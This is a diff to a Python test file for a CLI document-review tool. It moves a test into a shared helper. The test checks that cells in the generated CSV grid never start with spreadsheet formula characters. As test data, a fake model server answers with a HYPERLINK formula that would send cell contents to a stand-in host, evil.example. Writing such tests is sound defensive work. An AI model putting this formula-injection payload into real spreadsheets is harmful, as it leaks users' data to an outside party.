@@ -5,8 +5,6 @@ Nothing here touches the real /dev; FIFOs, sockets and symlinks live in temporar
 
 from __future__ import annotations
 
-import csv
-import io
 import json
 import os
 import shutil
@@ -20,7 +18,7 @@ from pathlib import Path
 import pytest
 
 from tests.conftest import API_KEY
-from tests.support.cli import LONGDOC, environment, longdoc
+from tests.support.cli import LONGDOC, environment, longdoc, review_grid
 from tests.support.raw_server import RawServer, content, sse
 from tests.support.sglang_server import FakeSGLang
 
@@ -92,16 +90,9 @@ def test_review_grid_cells_never_start_a_formula(
     sglang: FakeSGLang, home: Path, tmp_path: Path
 ) -> None:
     folder = docs(tmp_path / "docs", 1)
-    questions = tmp_path / "q.txt"
-    questions.write_text("What is the fee?\n=1+1 is a question too\n")
     sglang.behaviour.update(answer_text='=HYPERLINK("http://evil.example/?"&A1,"click")')
-    out = tmp_path / "grid.csv"
-    done = longdoc(
-        "review", str(folder), "--questions", str(questions), "--out", str(out),
-        home=home, server=sglang, api_key=API_KEY,
-    )  # fmt: skip
-    assert done.returncode == 0, done.stderr
-    rows = list(csv.reader(io.StringIO(out.read_text())))
+    questions = "What is the fee?\n=1+1 is a question too\n"
+    rows = review_grid(folder, questions, home=home, server=sglang, api_key=API_KEY)
     assert rows[0][-1] == "'=1+1 is a question too"
     cells = [c for row in rows for c in row]
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
